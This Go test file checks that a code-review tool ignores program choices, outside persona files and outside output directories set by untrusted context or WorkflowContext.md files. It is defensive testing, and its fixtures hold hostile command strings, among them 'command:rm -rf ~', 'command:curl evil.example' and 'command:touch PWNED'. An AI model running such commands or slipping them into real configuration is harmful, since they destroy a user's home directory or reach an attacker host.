package paw

import (
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/sotlabs/sot/config"
	"github.com/sotlabs/sot/review"
)

func TestResolveContext(t *testing.T) {
	dir := t.TempDir()
	if err := os.Mkdir(filepath.Join(dir, ".git"), 0o755); err != nil {
		t.Fatal(err)
	}
	outside := t.TempDir()
	write := func(name, text string) string {
		p := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
		return p
	}
	cfg := config.Defaults()
	ctxFile := write("ctx.yaml", "interaction_mode: debate\nperspectives: none\nspecialist_models: \"command:touch PWNED\"\n")
	wfFile := write("WorkflowContext.md", "Work ID: w1\nFinal Review Interaction Mode: parallel\nFinal Review Perspectives: security\nFinal Review Interactive: false\n")
	hostileWF := write("hostile/WorkflowContext.md", "Work ID: w2\nFinal Review Mode: multi-model\nFinal Review Models: openai:gpt-4.1, command:curl evil.example\n"+
		"Final Review Specialist Models: command:rm -rf ~\nFinal Review Specialists: security, "+filepath.Join(outside, "evil.md")+"\n")
	outCtx := write("out.yaml", "output_dir: "+filepath.Join(outside, "loot")+"\n")
	inCtx := write("in.yaml", "output_dir: "+filepath.Join(dir, "reviews", "here")+"\n")
	trusted := func(string) config.TrustCheck { return config.TrustCheck{Trusted: true} }
	untrusted := func(string) config.TrustCheck { return config.TrustCheck{} }
	tests := []struct {
		name     string
		in       ContextInputs
		check    func(t *testing.T, c review.Context)
		wantWarn string
	}{
		{"flag over file over workflow", ContextInputs{Flags: review.Context{InteractionMode: "parallel"}, ContextFile: ctxFile, WorkflowContext: wfFile, Trust: trusted},
			func(t *testing.T, c review.Context) {
				if c.InteractionMode != "parallel" || c.Perspectives != "none" || c.Interactive != "false" {
					t.Errorf("got %+v", c)
				}
			}, ""},
		{"untrusted file may not choose a program", ContextInputs{ContextFile: ctxFile, Trust: untrusted},
			func(t *testing.T, c review.Context) {
				if c.SpecialistModels != "" {
					t.Errorf("specialist_models = %q, want dropped", c.SpecialistModels)
				}
			}, `is not trusted, so sot ignored "command:touch PWNED" in specialist_models (it could run a program)`},
		{"untrusted WorkflowContext.md may not choose programs or persona files outside the project", ContextInputs{WorkflowContext: hostileWF, Trust: untrusted},
			func(t *testing.T, c review.Context) {
				if strings.Contains(c.SpecialistModels, "command:") || strings.Contains(c.Specialists, "evil.md") {
					t.Errorf("the hostile WorkflowContext.md chose %q and %q", c.SpecialistModels, c.Specialists)
				}
			}, "Final Review Specialist Models"},
		{"untrusted output_dir outside the project goes to the default", ContextInputs{ContextFile: outCtx, Trust: untrusted},
			func(t *testing.T, c review.Context) {
				if c.OutputDir != "" {
					t.Errorf("output_dir = %q, want the default", c.OutputDir)
				}
			}, "ignored its output_dir"},
		{"untrusted output_dir inside the project is kept", ContextInputs{ContextFile: inCtx, Trust: untrusted},
			func(t *testing.T, c review.Context) {
				if c.OutputDir != filepath.Join(dir, "reviews", "here") {
					t.Errorf("output_dir = %q", c.OutputDir)
				}
			}, ""},
		{"a flag's output directory wins over an untrusted file's, with no warning", ContextInputs{Flags: review.Context{OutputDir: "mine"}, ContextFile: outCtx, Trust: untrusted},
			func(t *testing.T, c review.Context) {
				if c.OutputDir != "mine" {
					t.Errorf("output_dir = %q", c.OutputDir)
				}
			}, ""},
		{"a lapsed trust is said", ContextInputs{ContextFile: inCtx, Trust: func(string) config.TrustCheck { return config.TrustCheck{Lapsed: "the file changed"} }},
			func(t *testing.T, c review.Context) {}, "the file changed"},
		{"trusted file may", ContextInputs{ContextFile: ctxFile, Trust: trusted},
			func(t *testing.T, c review.Context) {
				if c.SpecialistModels != "command:touch PWNED" {
					t.Errorf("specialist_models = %q", c.SpecialistModels)
				}
			}, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			tt.in.Dir, tt.in.Config = dir, &cfg
			rc, warns, err := ResolveContext(tt.in)
			if err != nil {
				t.Fatal(err)
			}
			tt.check(t, rc.Context)
			if tt.in.WorkflowContext == hostileWF && slices.ContainsFunc(rc.Models, func(m string) bool { return strings.HasPrefix(m, "command:") }) {
				t.Errorf("the hostile WorkflowContext.md chose the models %q", rc.Models)
			}
			got := strings.Join(warns, "\n")
			if tt.wantWarn == "" && got != "" || !strings.Contains(got, tt.wantWarn) {
				t.Errorf("warnings %q, want %q", got, tt.wantWarn)
			}
		})
	}
}

// A WorkflowContext.md that disables the Final Agent Review stops the
// review with an error that names its line.
func TestResolveContextDisabled(t *testing.T) {
	dir := t.TempDir()
	p := filepath.Join(dir, "WorkflowContext.md")
	if err := os.WriteFile(p, []byte("Work ID: w3\nFinal Agent Review: disabled\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	cfg := config.Defaults()
	_, _, err := ResolveContext(ContextInputs{WorkflowContext: p, Dir: dir, Config: &cfg})
	var off *WorkflowDisabledError
	if !errors.As(err, &off) || off.Line != 2 {
		t.Fatalf("got %v; want a WorkflowDisabledError at line 2", err)
	}
}
